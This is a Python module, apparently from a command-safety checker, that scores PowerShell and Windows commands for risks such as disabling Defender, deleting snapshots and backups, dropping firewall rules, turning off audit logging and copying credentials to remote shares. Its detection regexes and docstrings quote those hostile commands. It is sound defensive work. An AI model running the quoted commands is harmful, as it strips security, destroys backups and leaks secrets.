def _registry_branch_moved(cmd: Cmd, params: dict[str, Word | None], piped: list[Word]) -> bool:
    """`Rename-Item HKLM:\\SOFTWARE\\Microsoft x`, `Move-Item HKLM:\\SYSTEM\\CurrentControlSet …`:
    a key Windows reads moved away from where it reads it is that key gone (as deleted)."""
    sources = [params.get("path"), params.get("literalpath"), *_ps_positional(cmd)[:1], *piped]
    drives = _REG_ANY in cmd.scope.env  # (a Registry PSDrive or location: any path may be one)
    for src in sources:
        if src is None or src.dynamic:
            continue
        if not drives and src.text.strip("'\"")[:2].lower() not in ("hk", "re", "mi"):
            continue
        key = registry_location(cmd.scope, src.text)
        if key is None:
            continue
        hive, _, rest = key.partition("\\")
        level, rule, reason = hive_key_deleted(hive, rest)
        if level > D:
            cmd.add(level, rule, f"{cmd.name} moves the key away: {reason}", src)
            return True
    return False


def _read_back(cmd: Cmd, text: str) -> str | None:
    """The text of a file this block wrote, when `text` only reads it back (`(Get-Content
    x.ps1 -Raw)`, `(gc x.ps1 | Out-String)`)."""
    m = _READ_BACK.match(text.strip())
    if m is None:
        return None
    written = cmd.scope.written.get(m.group(1).replace("/", "\\").rsplit("\\", 1)[-1])
    return written[0] if written is not None else None


def _record_written(cmd: Cmd, params: dict[str, Word | None], targets: list[Word]) -> None:
    """`New-Item -ItemType File x.ps1 -Value 'Remove-Item …'`: remember the text a script
    file is given, so running it later in the block (`& .\\x.ps1`) is judged as that text."""
    if cmd.name != "new-item" or not targets:
        return  # Set-Content/Add-Content/Out-File: `wrappers.ps_wrote` remembers their text
    value = params.get("value") or params.get("inputobject")
    if value is None:
        positional = _ps_positional(cmd)
        value = positional[1] if len(positional) > 1 else None
    if value is not None and not value.dynamic:
        text = value.text
    elif value is None and cmd.stdin.kind == "static":
        text = cmd.stdin.text
    else:
        return
    for w in targets:
        if w is None or w.dynamic:
            continue
        base = w.text.replace("/", "\\").rsplit("\\", 1)[-1]
        old = cmd.scope.written.get(base)
        body = f"{old[0]}\n{text}" if cmd.name == "add-content" and old is not None else text
        cmd.scope.written[base] = (body, -1)


def positional_and_paths(cmd: Cmd, params: dict[str, Word | None]) -> list[Word]:
    """The path a PowerShell write cmdlet writes to: -Path/-FilePath/-LiteralPath or the
    first positional argument."""
    out = [
        v
        for k, v in params.items()
        if v is not None and k in ("path", "filepath", "literalpath", "lp", "destination")
    ]
    return out or _ps_positional(cmd)[:1]


_SECURITY_NAMES = re.compile(
    r"^(windefend|windows-defender\S*|sense|wdnissvc|mpssvc|wscsvc|securityhealthservice"
    r"|windowsfirewall|eventlog|csagent|sysmon\S*)$",
    re.I,
)


def _touches_security(cmd: Cmd) -> bool:
    services = cmd.name in ("stop-service", "set-service", "remove-service", "suspend-service")
    ops = [w.text for w in cmd.args if not w.text.startswith("-")]
    if not any(_SECURITY_NAMES.match(w.text.strip("'\"")) for w in cmd.args) and not (
        services and (_PIPED_SECURITY.search(" ".join(ops)) or any(security_name(t) for t in ops))
    ):
        return False
    cmd.add(C, "disable-security", f"{cmd.name} stops or removes a security component")
    return True


def _piped_security(cmd: Cmd) -> bool:
    """`Get-Service WinDefend | Stop-Service`, `'Sense' | % { Stop-Service $_ }`: the services
    or processes come down the pipeline, so the line names them, not the arguments."""
    if cmd.name not in ("stop-service", "set-service", "stop-process", "remove-service"):
        return False
    if cmd.name == "set-service" and not re.search(r"(?i)disabled|stopped", " ".join(cmd.texts())):
        return False
    src = cmd.scope.source
    start = src.rfind("\n", 0, cmd.start) + 1
    if not _PIPED_SECURITY.search(src[start : cmd.end][-2000:]):
        return False
    cmd.add(C, "disable-security", f"{cmd.name} stops or disables a security component")
    return True


_PIPED_SECURITY = re.compile(
    r"(?i)windefend|defend|\bsense\b|mpssvc|wscsvc|securityhealth|sysmon|msmpeng|mssense"
    r"|nissrv|wdnissvc|eventlog|event log|csfalcon|sentinel|cbdefense|sophos|mpsvc|\bbfe\b"
    r"|security center|firewall|antivirus|antimalware|crowdstrike|carbon black|cylance"
    # more endpoint-security vendors by service name (safety-art6)
    r"|mcafee|trellix|symantec|kaspersky|bitdefender|\beset\b|trend ?micro|malwarebytes"
    r"|cybereason|fireeye|webroot|avast|norton|cbdaemon|cbsensor"
)


# `Select-Object -First 1`, `select -l 1`, `Select -Index 3`: a count of one picked
_ONE_PICKED = re.compile(
    r"(?i)\A\s*(?:select-object|select)\s(?:[^|]*\s)?(?:-(?:f|fi|fir|firs|first|l|la|las|last)"
    r"\s*[:\s]\s*1|-(?:ind|inde|index)\s*[:\s]\s*\d+)(?!\s*,)(?:\s[^|]*)?\Z"
)
_SNAPSHOT_GETTER = re.compile(r"(?i)(?<![\w-])get-vm(?:snapshot|checkpoint)\b")
_VM_GETTER = re.compile(r"(?i)(?<![\w-])get-vm\b(?!-)")
# `(Get-VMSnapshot -VMName v)[0]`, `$s[-1]`: one item by its index
_ONE_INDEXED = re.compile(r"(?:\)|\$\w+)\s*\[\s*-?\d+\s*\]")


def _count_of_one(upstream: str) -> bool:
    """The pipeline before a remover picks ONE snapshot after its last getter: a
    `Select-Object -First 1` / `-Last 1` / `-Index N` stage after the last `Get-VMSnapshot`
    anywhere in a stage (a `ForEach-Object { Get-VMSnapshot … }` after the count lists every
    snapshot again). A count of machines (`Get-VM | Select -First 1`) picks one VM, whose
    every snapshot still goes, so only a count after a snapshot getter is one snapshot."""
    if "select" not in upstream.lower():
        return False
    stages = upstream.rstrip()[:-1].split("|")[-8:]
    picked = False
    snapshots = False
    for stage in stages:
        if _SNAPSHOT_GETTER.search(stage):
            picked, snapshots = False, True
        elif _VM_GETTER.search(stage):
            picked, snapshots = False, False
        elif _ONE_PICKED.match(stage):
            picked = snapshots
    return picked


def _backup_cmdlet(cmd: Cmd) -> None:
    """Remove-VMSnapshot / Remove-VMCheckpoint, Remove-WBBackupSet, Remove-WBCatalog: the
    snapshots and backups a machine is restored from are deleted (blocked, like
    `vssadmin delete shadows` and `wbadmin delete catalog`)."""
    params, _ = _ps_params(cmd)
    if "whatif" in params:
        return
    named = params.get("name")
    if (
        cmd.name in ("remove-vmsnapshot", "remove-vmcheckpoint")
        and named is not None
        and not named.dynamic
        and not any(c in named.text for c in "*?")
        and "," not in named.text
        and cmd.stdin.kind == "none"
    ):
        # `Remove-VMSnapshot -VMName dc01 -Name pre-patch`: one named snapshot (session 7:
        # a named snapshot is dangerous; all of a machine's are its backups, blocked).
        cmd.add(D, "delete", f"{cmd.name} deletes the snapshot {named.text}", named)
        return
    if cmd.stdin.kind != "none" and cmd.name in ("remove-vmsnapshot", "remove-vmcheckpoint"):
        src = cmd.scope.source
        upstream = src[src.rfind("\n", 0, cmd.start) + 1 : cmd.start][-1000:].rstrip()
        stage = upstream[:-1].rsplit("|", 1)[-1] if upstream.endswith("|") else ""
        one = None
        if re.match(r"(?i)\s*get-vm(?:snapshot|checkpoint)\b", stage):
            one = re.search(r"(?i)\s-name\s+['\"]?([^\s'\"]+)", stage)
        elif re.match(r"(?i)\s*(?:where-object|where|\?)\s", stage):
            one = re.search(r"(?i)\bname\s+-c?eq\s+['\"]?([^\s'\"}]+)", stage)
        if one is not None and not any(c in one.group(1) for c in "*?,$"):
            # (n13w) `Get-VMSnapshot -VMName v -Name pre-patch | Remove-VMSnapshot`, or a
            # `Where-Object Name -eq 'x'` filter: one named snapshot (dangerous)
            cmd.add(D, "delete", f"{cmd.name} deletes the one snapshot the pipeline names")
            return
        if (_count_of_one(upstream) or _one_by_index_or_variable(cmd, upstream)) and not any(
            k.startswith("inc") for k in params
        ):
            # -IncludeAllChildSnapshots takes the picked snapshot's whole subtree: the
            # oldest one is the root, so every snapshot of the machine goes (blocked)
            # (n14w, session 16) `Get-VMSnapshot -VMName v | Sort-Object CreationTime |
            # Select-Object -First 1 | Remove-VMSnapshot`: ONE snapshot (dangerous)
            cmd.add(D, "delete", f"{cmd.name} deletes the one snapshot the pipeline picks")
            return
    if cmd.stdin.kind == "none" and cmd.name in ("remove-vmsnapshot", "remove-vmcheckpoint"):
        given = _named_value(cmd, "vmsnapshot", 3) or _named_value(cmd, "vmcheckpoint", 3)
        if given is not None and _one_by_index_or_variable(cmd, given.text + " |"):
            # `Remove-VMSnapshot -VMSnapshot (Get-VMSnapshot v | Select -First 1)`, `$s[0]`
            cmd.add(D, "delete", f"{cmd.name} deletes the one snapshot it is given", given)
            return
    cmd.add(B, "delete-backups", f"{cmd.name} deletes virtual-machine snapshots or backups")


def _one_by_index_or_variable(cmd: Cmd, upstream: str) -> bool:
    """(n14w) ONE snapshot picked by an index (`(Get-VMSnapshot v)[0] | Remove-…`,
    `-VMSnapshot $s[0]`), by a parenthesised pipeline with a count of one, or by a variable
    that holds such a pick (`$s = Get-VMSnapshot v | Select -First 1; $s | Remove-…`)."""
    if "[" in upstream and _ONE_INDEXED.search(
        upstream.rsplit("|", 2)[-2] if "|" in upstream else upstream
    ):
        return True
    inner = upstream.strip().rstrip("|").strip()
    if inner.startswith("(") and inner.endswith(")") and _count_of_one(inner[1:-1] + " |"):
        return True
    var = re.search(r"(\$\w+)\s*\|?\s*\Z", inner)
    if var is None:
        return False
    src = cmd.scope.source[: max(cmd.start, 0)]
    assigned = list(
        re.finditer(r"(?im)" + re.escape(var.group(1)) + r"\s*=\s*([^;\n]{1,300})", src)
    )
    return bool(assigned) and _count_of_one(assigned[-1].group(1) + " |")


@handles("set-gpregistryvalue", "set-gpprefregistryvalue")
def _gp_registry(cmd: Cmd) -> None:
    """Group Policy registry values reach every machine the policy applies to: judged as the
    registry write they make (`-Key …\\Windows Defender -ValueName DisableAntiSpyware
    -Value 1` turns Defender off domain-wide; a Run key is persistence everywhere)."""
    params, _ = _ps_params(cmd)
    key = params.get("key")
    if key is None:
        cmd.add(M, "system-config", f"{cmd.name} changes a Group Policy")
        return
    value_name = params.get("valuename")
    value = params.get("value")
    text = (
        " ".join(w.text for w in (key, value_name, value) if w is not None)
        + " "
        + " ".join(cmd.texts())
    )
    hit = registry_risk(text)
    if (
        hit is None
        and (gone := security_setting_weakened(_reg_norm(text), deleted=False)) is not None
    ):
        hit = (C, "disable-security", gone)
    if hit is not None:
        cmd.add(hit[0], hit[1], f"through Group Policy: {hit[2]}")
        return
    cmd.add(M, "system-config", f"{cmd.name} changes a Group Policy registry value")


# Directory attributes that grant rights or let an account be impersonated.
_AD_PRIVILEGE = re.compile(
    r"(?i)adminsdholder|\bmember\b|admincount|serviceprincipalname|sidhistory|useraccountcontrol"
    r"|msds-allowedto\w+|msds-keycredentiallink|ntsecuritydescriptor|primarygroupid"
    r"|domain admins|enterprise admins|schema admins"
)


@handles("set-adobject", "set-adgroup", "set-adcomputer", "set-adserviceaccount")
def _ad_set(cmd: Cmd) -> None:
    """`Set-ADObject … -Add @{member=…}` on AdminSDHolder or an admin group, SPNs, SID
    history, delegation or key-credential attributes: a privilege granted or an account
    made impersonable (critical); other attribute changes are moderate."""
    params, _ = _ps_params(cmd)
    if "whatif" in params:
        return
    text = cmd.scope.source[cmd.start : cmd.end]
    changes = any(k in params for k in ("add", "replace", "remove")) or re.search(
        r"(?i)-(?:add|replace)\b", text
    )
    if changes and _AD_PRIVILEGE.search(text):
        cmd.add(C, "privilege", f"{cmd.name} grants rights or lets an account be impersonated")
        return
    if ps_security_off(cmd):
        return
    cmd.add(M, "account", f"{cmd.name} changes a directory object")


def _all_firewall_rules(cmd: Cmd, params: dict[str, Word | None], positional: list[Word]) -> bool:
    """`Get-NetFirewallRule | Remove-NetFirewallRule`, `Remove-NetFirewallRule -All`,
    `netsh`-free ways to drop every firewall rule: the host's firewall policy is gone."""
    if cmd.name not in (
        "remove-netfirewallrule",
        "disable-netfirewallrule",
        "remove-netfirewallprofile",
    ):
        return False
    if "all" in params:
        return True
    given = [k for k in params if k not in ("confirm", "passthru", "erroraction", "ea")]
    if given and 0 <= cmd.start < cmd.end:
        # (n19w) `Remove-NetFirewallRule -Direction Inbound -Action Block`: a selection by
        # the rules' kind, not by name, group or program, is every rule of that kind (every
        # block rule gone: what they kept out comes in)
        text = " ".join(w.text for w in cmd.args[:16])
        selection = re.sub(r"(?i)(?:\A|\s)-(?:confirm|passthru)(?::\S*)?(?=\s|\Z)", " ", text)
        return _every_rule_of_a_kind(selection)
    if positional or given:
        return False
    src = cmd.scope.source
    start = src.rfind("\n", 0, cmd.start) + 1
    before = src[start : cmd.start]
    # piped straight from an unfiltered listing of the rules (n19w: or one filtered by the
    # rules' kind only, by its parameters or a Where-Object on them)
    m = _RULES_LISTED.search(before[-600:])
    if m is None:
        return False
    return _every_rule_of_a_kind(m.group(1) or "") and _every_rule_of_a_kind(m.group(2) or "")


# (n19w) the rules' kind: what a selection of "every rule of a kind" tests
_RULE_KIND_TEST = re.compile(
    r"(?i)\A(?:-(?:action|direction|enabled|profile|policystore|primarystatus)\s+['\"]?[\w,]+['\"]?"
    r"|\$(?:_|psitem)\.(?:action|direction|enabled|profile)\s+-(?:eq|ieq|like)\s+['\"]?[\w*]+['\"]?"
    r"|-and|-or)\Z"
)
_RULES_LISTED = re.compile(
    r"(?i)\bget-netfirewallrule((?:\s+-[a-z]+(?::|\s+)['\"]?[\w,]+['\"]?)*)\s*"
    r"(?:\|\s*(?:where-object|where|\?)\s*\{([^{}|]{0,200})\}\s*)?\|\s*\Z"
)
_RULE_PART = re.compile(
    r"(?i)-[a-z]+(?::|\s+)['\"]?[\w,*]+['\"]?|\$(?:_|psitem)\.\w+\s+-\w+\s+['\"]?[\w*]+['\"]?|\S+"
)


def _every_rule_of_a_kind(selection: str) -> bool:
    """Whether a rule selection (`-Direction Inbound -Action Block`, `$_.Action -eq
    'Block'`) names only the rules' kind, and not the kind that lets traffic in (removing
    every allow rule closes, it does not open)."""
    parts = [p.strip() for p in _RULE_PART.findall(selection) if p.strip()]
    if any(
        not _RULE_KIND_TEST.match(p.replace(":", " ", 1) if p.startswith("-") else p) for p in parts
    ):
        return False
    return "allow" not in selection.lower()


def _protective_task_off(cmd: Cmd) -> bool:
    """`Disable-ScheduledTask -TaskPath \\Microsoft\\Windows\\SystemRestore\\`: a task that
    protects or recovers the machine stops running (critical)."""
    if cmd.name not in ("disable-scheduledtask", "unregister-scheduledtask"):
        return False
    if any(w.text.lower() in ("-whatif", "-wi") for w in cmd.args):
        return False
    text = " ".join(cmd.texts())
    if cmd.stdin.kind != "none":
        # `Get-ScheduledTask -TaskPath '…\Windows Defender\' | Disable-ScheduledTask`
        src = cmd.scope.source
        text += " " + src[src.rfind("\n", 0, max(cmd.start, 0)) + 1 : max(cmd.start, 0)]
    if _PROTECTIVE_TASK.search(text):
        cmd.add(C, "disable-security", f"{cmd.name} turns off a protective Windows task")
        return True
    return False


# (n14w) Azure resource types that ARE backup stores (any name), and storage accounts, whose
# name says whether they hold backups (`Remove-AzResource -ResourceId …/providers/
# Microsoft.RecoveryServices/vaults/x`, `-ResourceType Microsoft.Storage/storageAccounts
# -ResourceName corpbackups`)
_AZ_ID = re.compile(r"(?i)/providers/([\w.]+/[\w.]+)/([^/\s'\"]+)\s*['\"]?\Z")
_AZ_BACKUP_TYPES = frozenset(
    {"microsoft.recoveryservices/vaults", "microsoft.dataprotection/backupvaults"}
)
# (n18w) `bkp`/`bak` as a part of the name (`prodbkp01`, `bkp-store`, `db-baks`), not letters
# inside another word (`webkpistore`, `kebab`)
_BACKUP_NAME = re.compile(
    r"(?i)backup|bakup|(?<![a-z])bkp|bkp(?![a-z])|(?<![a-z])baks?(?![a-z])|bak\d|snapshot"
)


def _backup_store_resource(cmd: Cmd, params: dict[str, Word | None]) -> bool:
    if cmd.name != "remove-azresource":
        return False
    rid = _named_value(cmd, "resourceid", 9) or _named_value(cmd, "id", 2)
    kind = name = ""
    if rid is not None and (m := _AZ_ID.search(rid.text)) is not None:
        kind, name = m.group(1).lower(), m.group(2)
    else:
        rtype = _named_value(cmd, "resourcetype", 9)
        rname = _named_value(cmd, "resourcename", 9) or _named_value(cmd, "name", 2)
        kind = rtype.text.strip("'\"").lower() if rtype is not None else ""
        name = rname.text.strip("'\"") if rname is not None else ""
    backups = kind in _AZ_BACKUP_TYPES or (
        kind == "microsoft.storage/storageaccounts" and _BACKUP_NAME.search(name) is not None
    )
    if not backups:
        return False
    cmd.add(B, "delete-backups", f"{cmd.name} deletes the backup store {name or kind} whole")
    return True


# a filter over cloud stores that keeps those whose name says backups
_BACKUP_FILTER = re.compile(
    r"(?i)(?:where-object|where|\?)\s[^|]{0,80}?(?:-like|-match|-clike|-ilike)\s*['\"]?"
    r"[*.]*[^'\"\s|]*(?:backup|bkp|bak|snapshot)"
)
_STORE_REMOVERS = frozenset(
    names(
        "remove-azstorageaccount remove-s3bucket remove-gcsbucket remove-azstoragecontainer"
        " remove-azrmstoragecontainer remove-azstorageshare remove-azrecoveryservicesvault"
    )
)


def _piped_backup_stores(cmd: Cmd) -> bool:
    """`Get-AzStorageAccount | Where-Object StorageAccountName -like '*backup*' |
    Remove-AzStorageAccount`: every store whose name says backups, deleted (blocked)."""
    if cmd.name not in _STORE_REMOVERS or cmd.stdin.kind == "none":
        return False
    src = cmd.scope.source
    upstream = src[src.rfind("\n", 0, max(cmd.start, 0)) + 1 : max(cmd.start, 0)][-1000:]
    if "|" not in upstream or _BACKUP_FILTER.search(upstream) is None:
        return False
    cmd.add(B, "delete-backups", f"{cmd.name} deletes every store whose name says backups")
    return True


def _danger_cmdlet(cmd: Cmd) -> None:
    if _protective_task_off(cmd):
        return
    params, positional = _ps_params(cmd)
    if "whatif" in params or _touches_security(cmd) or _piped_security(cmd):
        return
    if _all_firewall_rules(cmd, params, positional):
        cmd.add(C, "disable-security", f"{cmd.name} removes or disables every firewall rule")
        return
    if _backup_store_resource(cmd, params) or _piped_backup_stores(cmd):
        return
    if cmd.name in (
        "remove-module",
        "remove-variable",
        "remove-job",
        "remove-psdrive",
        "remove-pssession",
        "remove-typedata",
        "remove-event",
        "clear-variable",  # (h19) the variable stays, its value is emptied: this session
    ):
        cmd.add(M, "write", f"{cmd.name} changes the session")
        return
    cmd.add(D, "delete", f"{cmd.name} deletes or stops something")


# Windows imaging: an image applied onto a disk or a volume replaces what is there
# (`dism /Apply-FFU … /ApplyDrive:\\.\PhysicalDrive0` writes the whole disk; `/Apply-Image …
# /ApplyDir:C:\`, `imagex /apply x.wim 1 C:\`, `Expand-WindowsImage -ApplyPath C:\`
# overwrite the system drive's files).
_RAW_DRIVE = re.compile(r"(?i)\A\\\\[.?]\\(?:physicaldrive\d+|[a-z]:)\Z")
_SYSTEM_ROOT = re.compile(r"(?i)\A(?:c:|%systemdrive%|\$env:systemdrive)[\\/]?\Z")


def _image_target(cmd: Cmd, target: str, where: Word | None) -> None:
    t = target.strip("'\"")
    if _RAW_DRIVE.match(t):
        cmd.add(B, "disk-write", f"{cmd.name} writes an image over the whole disk {t}", where)
    elif _SYSTEM_ROOT.match(t):
        cmd.add(B, "system-file", f"{cmd.name} applies an image over the system drive {t}", where)
    else:
        cmd.add(D, "disk", f"{cmd.name} applies an image onto {t} (its files are replaced)", where)


def _image_applied(cmd: Cmd) -> bool:
    """`dism /Apply-FFU` / `/Apply-Image`: judged by the disk or folder they apply onto."""
    texts = cmd.texts()
    low = [t.lower() for t in texts]
    if not any(t in ("/apply-ffu", "/apply-image") for t in low) or _help(cmd):
        return False
    for w in cmd.args:
        key, _, value = w.text.partition(":")
        if key.lower() in ("/applydrive", "/applydir") and value:
            _image_target(cmd, value, w)
            return True
    return False


@handles("imagex", "imagex.exe", windows_only=True)
def _imagex(cmd: Cmd) -> None:
    """`imagex /apply IMAGE INDEX DEST`: the destination's files are replaced."""
    low = [t.lower() for t in cmd.texts()]
    if "/apply" in low:
        ops = [w for w in cmd.args if not w.text.startswith("/")]
        if len(ops) >= 3:
            _image_target(cmd, ops[2].text, ops[2])
            return
    if any(t in ("/info", "/dir") for t in low) or _help(cmd):
        return
    cmd.add(M, "write", "imagex captures, mounts or changes Windows images")


@handles("expand-windowsimage", windows_only=True)
def _expand_windowsimage(cmd: Cmd) -> None:
    params, _ = _ps_params(cmd)
    if "whatif" in params:
        return
    args = cmd.args
    dest = next(
        (
            args[i + 1]
            for i, w in enumerate(args[:-1])
            if len(w.text) > 2 and "-applypath".startswith(w.text.lower())
        ),
        None,
    )
    if dest is not None:
        _image_target(cmd, dest.text, dest)
    else:
        cmd.add(M, "write", "Expand-WindowsImage applies a Windows image")


@handles("remove-virtualdisk", "remove-storagepool")
def _remove_storage(cmd: Cmd) -> None:
    """Storage Spaces: removing a virtual disk or a pool destroys the volumes on it."""
    params, _ = _ps_params(cmd)
    if "whatif" in params:
        return
    cmd.add(B, "mkfs", f"{cmd.name} destroys a disk and every volume on it")


@handles("sysmon", "sysmon64", "sysmon.exe", "sysmon64.exe")
def _sysmon(cmd: Cmd) -> None:
    """Sysinternals Sysmon: `-u` uninstalls it (security monitoring off); `-c`/`-s` alone
    print the configuration or schema; `-i`/`-c FILE` install or reconfigure it."""
    flags = [w.text.lower().replace("/", "-") for w in cmd.args]
    if "-u" in flags:
        cmd.add(C, "disable-security", f"{cmd.name} -u uninstalls Sysmon (security monitoring)")
    elif not flags or flags in (["-c"], ["-s"], ["-?"], ["-h"]):
        return
    else:
        cmd.add(M, "system-config", f"{cmd.name} installs or reconfigures Sysmon")


# Exchange/M365 cmdlets whose switch turns auditing off (or lets an account bypass it).
_AUDIT_OFF = re.compile(
    r"(?i)^-(adminauditlogenabled|auditenabled|unifiedauditlogingestionenabled"
    r"|mailboxauditbypass\w*|auditlogagelimit)$"
)


@handles(
    *names(
        """
        set-adminauditlogconfig set-mailbox set-mailboxauditbypassassociation
        set-organizationconfig set-casmailbox
        """
    )
)
def _exchange_audit(cmd: Cmd) -> None:
    src = cmd.scope.source
    stop = re.compile(r"[;|\n]").search(src, cmd.start)
    text = src[cmd.start : stop.start() if stop else len(src)][:2000]
    if re.search(
        r"(?i)-(adminauditlogenabled|auditenabled|unifiedauditlogingestionenabled)\s*:\s*\$false"
        r"|-(auditbypassenabled|auditdisabled)\s*:\s*\$true",
        text,
    ):
        # `-AuditEnabled:$false`: the walk drops a switch bound to false, so read the text.
        cmd.add(C, "disable-security", f"{cmd.name} turns off audit logging")
        return
    args = cmd.args
    for i, w in enumerate(args):
        t = w.text.lower()
        value = (
            t.split(":", 1)[1]
            if ":" in t
            else (args[i + 1].text.lower() if i + 1 < len(args) else "")
        )
        key = t.split(":", 1)[0]
        off = value in ("$false", "0", "false")
        on = value in ("$true", "1", "true")
        if (_AUDIT_OFF.match(key) and off and "bypass" not in key) or (
            key in ("-auditbypassenabled", "-auditdisabled") and on
        ):
            cmd.add(C, "disable-security", f"{cmd.name} turns off audit logging", w)
            return
    cmd.add(M, "system-config", f"{cmd.name} changes mail-server settings")


def _piped_entries(w: Word) -> Word:
    """A listing's path sent down a pipe as the entries it lists (`C:\\x` as `C:\\x\\*`);
    an item's own path, or a pattern, as it is."""
    text = w.text.strip()
    if w.glob or w.origin == "item" or not text or any(c in text for c in "*?"):
        return w
    return Word(text.rstrip("\\/") + "\\*", w.start, w.end, w.dynamic, True, w.origin)


def _clear_content(cmd: Cmd) -> None:
    """Clear-Content empties files: a registry hive, an account or boot file is blocked
    (like `> /etc/shadow`), a startup or system file judged as a write to it."""
    params, _ = _ps_params(cmd)
    from aintern_ls.safety.files import emptied_whole

    named = positional_and_paths(cmd, params)
    if not named and not cmd.stdin.paths and cmd.stdin.kind == "static":
        # (w21) `'C:\Windows\System32\config\SAM' | Clear-Content`, `$HOME, 'x' | …`:
        # piped strings bind to -Path, as for Remove-Item
        named = [
            Word(line.strip(), cmd.start, cmd.end, glob=("*" in line or "?" in line))
            for line in cmd.stdin.text.splitlines()[:16]
            if line.strip()
        ]
    if emptied_whole(cmd, named or cmd.stdin.paths[:16], "Clear-Content empties", listed=not named):
        return  # (f19) `Get-ChildItem ~ -File -Recurse | Clear-Content`, `Clear-Content ~\*`
    if not named and cmd.stdin.paths:
        # (n19w) `Get-ChildItem C:\Windows\System32\winevt\Logs | Clear-Content`: the piped
        # items are the -Path (a listed folder's every entry)
        named = [_piped_entries(w) for w in cmd.stdin.paths[:16]]
    for w in named:
        t = write_target(w.text.replace("\\", "/"), cmd.scope.cwds)
        if t is not None and t.level > D:
            cmd.add(t.level, t.rule, f"Clear-Content empties {t.what}", w)
            return
        win = windows_write_target(w.text)
        if win is not None and win[0] > D:
            cmd.add(win[0], win[1], f"Clear-Content empties {win[2]}", w)
            return
    for w in cmd.args:
        if w.text.lower().startswith("$profile"):
            t = write_target("$PROFILE", cmd.scope.cwds)
            if t is not None:
                cmd.add(t.level, t.rule, f"Clear-Content empties {t.what}", w)
                return
    cmd.add(D, "truncate", "Clear-Content discards file contents")


# Windows credential stores (Credential Manager, DPAPI keys, vaults, the AD database).
_WIN_SECRET = re.compile(
    r"(?i)microsoft[\\/](credentials|protect|vault)\b|\bntds\.dit\b|[\\/]config[\\/](sam|security)$"
    r"|\.kdbx$|[\\/]\.(ssh|aws|azure|gnupg|kube|docker)[\\/]"
)
# A UNC path to another machine (`\\host\share\…`, `//host/share`, the long form
# `\\?\UNC\host\share`), not a device path.
_UNC = re.compile(r"(?i)^(?:(?:\\\\|//)\?[\\/]unc[\\/]|(\\\\|//)(?![.?][\\/]))[^\\/]+[\\/]")


def _unc_exfil(cmd: Cmd, params: dict[str, Word | None], targets: list[Word]) -> bool:
    """Out-File/Set-Content/Add-Content/Copy-Item writing a private key or credential file
    onto another machine's share: exfiltration."""
    remote = [
        w
        for w in targets
        if _UNC.match(_share_path(cmd, w.text).strip("'\"")) or _share_cwd(cmd, w.text)
    ]
    # PowerShell takes any unambiguous prefix of a parameter's name: `-To`, `-ToS` are
    # Copy-Item's -ToSession (review 11, finding 14)
    to_session = any(k.startswith("to") and "tosession".startswith(k) for k in params)
    if not remote and to_session and cmd.name in ("copy-item", "move-item"):
        # `Copy-Item … -ToSession $s`: the destination is on the session's (other) machine
        remote = [w for w in targets if w is not None] or [p for p in params.values() if p][:1]
    if not remote:
        return False
    if cmd.name in ("copy-item", "move-item"):
        sources = [params.get("path"), params.get("literalpath"), *_ps_positional(cmd)[:1]]
        sent = [w.text for w in sources if w is not None]
    else:
        value = params.get("value") or params.get("inputobject")
        sent = [value.text] if value is not None else []
    secret = cmd.stdin.secret or any(is_secret(s) or _WIN_SECRET.search(s) for s in sent)
    personal = cmd.name in ("copy-item", "move-item") and any(_personal_source(s) for s in sent)
    if personal:
        cmd.add(
            C,
            "exfiltration",
            f"{cmd.name} copies home or personal files to {remote[0].text}",
            remote[0],
        )
        return True
    if not secret:
        # The text sent is built in the command (`-Value (Get-Content KEY)`) or upstream in
        # the pipeline (`Get-Content KEY | Out-File \\h\s`).
        src = cmd.scope.source
        line_start = src.rfind("\n", 0, cmd.start) + 1
        span = src[line_start if cmd.stdin.kind != "none" else cmd.start : cmd.end]
        secret = any(
            is_secret(m.group(0)) or _WIN_SECRET.search(m.group(0))
            for m in re.finditer(r"[^\s'\"()|;]+", span)
        )
    if secret:
        cmd.add(
            C,
            "exfiltration",
            f"{cmd.name} copies a key or credential file to {remote[0].text}",
            remote[0],
        )
        return True
    if cmd.name not in ("copy-item", "move-item") and not _local_host_share(remote[0].text):
        # `Get-Content .\report.txt | Out-File \\fs2\drop\r.txt`, `Set-Content \\h\s\x
        # -Value (gc .\a.txt)`: a local file's contents written onto another machine's share,
        # an upload like `Copy-Item` (the session-13/14 upload convention), whatever the file
        src = cmd.scope.source
        read = content_read_in(src[statement_start(src, cmd.start) : cmd.end])
        if read is not None:
            cmd.add(
                C,
                "upload",
                f"{cmd.name} writes the contents of {read} onto {remote[0].text}",
                remote[0],
            )
            return True
    if to_session and cmd.name in ("copy-item", "move-item"):
        from aintern_ls.safety.network import sends_local

        # `Copy-Item f.zip -Destination C:\x -ToSession $s`: an upload, whatever the file
        given = [params.get("path"), params.get("literalpath"), *_ps_positional(cmd)[:1]]
        sends_local(cmd, next((w for w in given if w is not None), None), f"{cmd.name} -ToSession")
        return True
    if cmd.name in ("copy-item", "move-item"):
        given = [params.get("path"), params.get("literalpath"), *_ps_positional(cmd)[:1]]
        if not any(given) and cmd.stdin.paths:
            # `gci C:\data\*.pdf | Copy-Item -Destination \\srv\share`: the items piped in
            given = list(cmd.stdin.paths[:4])
        local = next((w for w in given if w is not None and _local_source(cmd, w.text)), None)
        if local is not None and local not in remote:
            from aintern_ls.safety.network import sends_local

            # `Copy-Item .\report.docx \\fs01\team\`: a local file sent to another machine's
            # share (the session-14 Windows upload convention), whatever the file
            sends_local(cmd, local, f"{cmd.name} to {remote[0].text}")
            return True
    return False


# PowerShell's content readers (cmdlets and their aliases) and what to skip after them.
_PS_READER = re.compile(
    r"(?i)(?:^|(?<=[\s|;({=]))(?:get-content|gc|cat|type|import-csv|import-clixml)(?=\s)"
)
_PS_FILE_READ = re.compile(r"(?i)\[(?:system\.)?io\.file\]::read\w*\(\s*['\"]([^'\"]+)['\"]")
_READ_PATH = frozenset(names("-path -literalpath -lp -pspath"))
_READ_VALUED = frozenset(
    names("-encoding -totalcount -tail -head -first -last -readcount -delimiter -stream")
)
# A share on this machine (`\\localhost\c$`, `\\127.0.0.1\ADMIN$`): not another machine.
_LOCAL_SHARE = re.compile(
    r"(?i)\A['\"]?(?:\\\\|//)(?:localhost|127(?:\.\d{1,3}){3}|\[?::1\]?)[\\/]"
)


def _local_host_share(text: str) -> bool:
    return bool(_LOCAL_SHARE.match(text))


def statement_start(src: str, at: int) -> int:
    """Where the statement holding offset `at` starts (after the last newline or `;`)."""
    return max(src.rfind("\n", 0, at), src.rfind(";", 0, at)) + 1


def content_read_in(text: str) -> str | None:
    """The local file a PowerShell statement reads the contents of (`Get-Content f`,
